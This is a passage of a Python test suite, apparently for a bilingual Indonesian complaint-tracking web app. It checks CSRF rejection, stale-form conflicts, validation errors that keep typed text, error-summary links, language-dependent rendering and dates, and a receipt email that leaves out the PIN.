    token = get_page(browser, f"/track/{receipt.code}").forms[url].values["csrf_token"]
    response = browser.post(url, data={"csrf_token": token, "rating": "4", "comment": "Cepat."})
    assert response.status_code == 302
    assert url not in get_page(browser, f"/track/{receipt.code}").forms  # no second form
    second = browser.post(url, data={"csrf_token": token, "rating": "1", "comment": "Ubah."})
    assert second.status_code == 422
    assert "#rate-rating" in Page(second.get_data(as_text=True)).links
    with complaint_in_db(app, receipt.code) as complaint:
        assert (complaint.rating, complaint.rating_comment) == (4, "Cepat.")
    ratings = [p for a, actor, p in audit_trail(app, receipt.code) if a == "complaint.rated"]
    assert ratings == [{"fields": {"rating": 4, "comment": {
        "sha256": hashlib.sha256("Cepat.".encode()).hexdigest(), "length": 6}}}]


def test_missing_required_field_keeps_typed_values(app, browser):
    """A dispute without its comment answers 422 at the field and keeps the chosen rating."""
    receipt = file_and_read_receipt(browser)
    officer_does(app, receipt.code, *FOLLOWED_UP)
    response = act(browser, receipt.code, "dispute", rating="2", comment="  ")
    assert response.status_code == 422
    page = Page(response.get_data(as_text=True))
    dispute = page.forms[f"/track/{receipt.code}/act/dispute"]
    assert dispute.values["rating"] == "2" and "comment" in dispute.invalid
    assert "#dispute-comment" in page.links
    with complaint_in_db(app, receipt.code) as complaint:
        assert complaint.state == "followed_up"
    assert "complaint.dispute" not in [a for a, _, _ in audit_trail(app, receipt.code)]


def test_stale_form_answers_409_and_keeps_text(app, browser):
    """A form rendered before an officer's change is refused with 409 and the text kept."""
    receipt = file_and_read_receipt(browser)
    action = f"/track/{receipt.code}/withdraw"
    old_form = get_page(browser, action).forms[action]
    officer_does(app, receipt.code, ("request_info", {"message": "Kirim nomor antrean."}))
    response = act(browser, receipt.code, "withdraw", form=old_form, comment="Saya cabut saja.")
    assert response.status_code == 409
    page = Page(response.get_data(as_text=True))
    assert page.forms[action].values["comment"] == "Saya cabut saja."
    assert int(page.forms[action].values["version"]) > int(old_form.values["version"])
    with complaint_in_db(app, receipt.code) as complaint:
        assert complaint.state == "awaiting_info"


@pytest.mark.parametrize("token", [None, "IjAwMDAi.forged.token"], ids=["missing", "wrong"])
def test_step_without_valid_token_keeps_text(app, browser, token):
    """A citizen step without a valid CSRF token answers 422, keeps the text, changes nothing."""
    receipt = file_and_read_receipt(browser)
    response = act(browser, receipt.code, "withdraw", csrf_token=token, comment="Saya cabut.")
    assert response.status_code == 422
    page = Page(response.get_data(as_text=True))
    assert page.forms[f"/track/{receipt.code}/withdraw"].values["comment"] == "Saya cabut."
    with complaint_in_db(app, receipt.code) as complaint:
        assert complaint.state == "received"


# Each scenario: how to get the page with errors, and the error the summary must lead to.
def _form_errors(app, client):
    return file_complaint_via_form(client, title="")


def _form_token(app, client):
    return file_complaint_via_form(client, csrf_token="forged")


def _dispute_blank(app, client):
    receipt = file_and_read_receipt(client)
    officer_does(app, receipt.code, *FOLLOWED_UP)
    return act(client, receipt.code, "dispute", comment="")


def _stale(app, client):
    receipt = file_and_read_receipt(client)
    form = get_page(client, f"/track/{receipt.code}/withdraw").forms[f"/track/{receipt.code}/withdraw"]
    officer_does(app, receipt.code, ("request_info", {"message": "Kirim nomor antrean."}))
    return act(client, receipt.code, "withdraw", form=form, comment="Cabut.")


def _step_token(app, client):
    receipt = file_and_read_receipt(client)
    return act(client, receipt.code, "withdraw", csrf_token="forged", comment="Cabut.")


@pytest.mark.parametrize("scenario", [
    _form_errors,
    _form_token,
    _dispute_blank,
    _stale,
    _step_token,
], ids=["form-fields", "form-token", "dispute-blank", "stale-version", "step-token"])
def test_error_summary_links_lead_to_one_element(app, browser, scenario):
    """Every link of the error summary points at exactly one element of the page."""
    response = scenario(app, browser)
    assert response.status_code in (409, 422)
    page = Page(response.get_data(as_text=True))
    targets = [href[1:] for href in page.links if href.startswith("#") and href != "#main"]
    assert targets
    assert {target: page.ids[target] for target in targets} == {target: 1 for target in targets}


# --- 8. languages ----------------------------------------------------------------------------

@pytest.mark.parametrize("page", ["home", "form", "track", "receipt", "view"])
def test_pages_render_in_both_languages(app, org, page):
    """Each citizen page renders in Indonesian and in English, and the two differ."""
    client = new_browser(app, "id")
    receipt = file_and_read_receipt(client) if page in ("receipt", "view") else None
    url = {"home": "/", "form": NEW, "track": "/track", "receipt": RECEIPT,
           "view": f"/track/{receipt.code}" if receipt else None}[page]
    bodies = {}
    for lang in ("id", "en"):
        client.set_cookie("lang", lang)
        response = client.get(url)
        assert response.status_code == 200
        bodies[lang] = masked(response.get_data(as_text=True))
        assert f'<html lang="{lang}">' in bodies[lang]
    assert bodies["id"] != bodies["en"]


def test_dates_follow_the_language(app, org):
    """Dates on the tracking page use the reader's language, in the unit's timezone."""
    with app.app_context():
        filed = file_complaint({"unit": "UNIT-A", "title": "Antrean", "description": "Lama.",
                                "privacy": "public", "name": "Budi", "consent": True},
                               at=datetime(2025, 12, 8, 3, 0, tzinfo=timezone.utc))
        db.session.commit()
        code, pin = filed.complaint.tracking_code, filed.pin
    for lang, shown, foreign in (("id", "8 Des 2025 10:00 WIB", "Dec 2025"),
                                 ("en", "8 Dec 2025 10:00 WIB", "Des 2025")):
        client = new_browser(app, lang)
        assert track(client, code, pin).status_code == 302
        html = get_page(client, f"/track/{code}").html
        assert shown in html and foreign not in html


# --- 9. the receipt email --------------------------------------------------------------------

@pytest.mark.parametrize("email", ["budi@example.id", ""], ids=["with-email", "without"])
def test_receipt_email_only_with_address(app, browser, email):
    """With an email address the receipt (the code, not the PIN) waits in the outbox; without,
    nothing."""
    app.config["MAIL_SERVER"] = None
    receipt = file_and_read_receipt(browser, email=email)
    with app.app_context():
        messages = [(m.recipient, m.status, m.subject, m.body_text, m.body_html)
                    for m in db.session.scalars(select(OutboxMessage))]
    if not email:
        assert messages == []
        return
    [(recipient, status, subject, text, html)] = messages
    assert (recipient, status) == (email, "held")
    assert receipt.code in subject
    for body in (text, html):
        assert receipt.code in body and receipt.pin not in body
